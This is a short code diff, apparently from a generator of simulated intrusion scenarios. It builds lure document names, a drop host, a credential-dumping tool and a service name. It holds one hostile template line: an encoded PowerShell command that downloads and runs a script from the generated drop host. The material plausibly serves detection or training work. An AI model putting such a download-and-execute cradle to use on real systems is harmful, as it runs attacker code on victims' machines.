@@ -76,7 +76,9 @@ function castOf(options: StoryOptions): Cast {
     document: `${random.pick(["invoice", "offer", "claim", "cv", "order", "minutes"])}_${random.int(100, 9999)}.${random.pick(["docm", "xlsm", "doc"])}`,
     dropIp: strangerAddress(random),
     dropName,
-    encoded: encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('https://${dropName}/a')`),
+    encoded: encodedCommand(
+      `IEX (New-Object Net.WebClient).DownloadString('https://${dropName}/a')`,
+    ),
     tool: dumperOf(options),
     service: random.pick(["PSEXESVC", `${inventedWord(random)}svc`, "WinUpdateHelper"]),
     helper: strangeAccount(random),
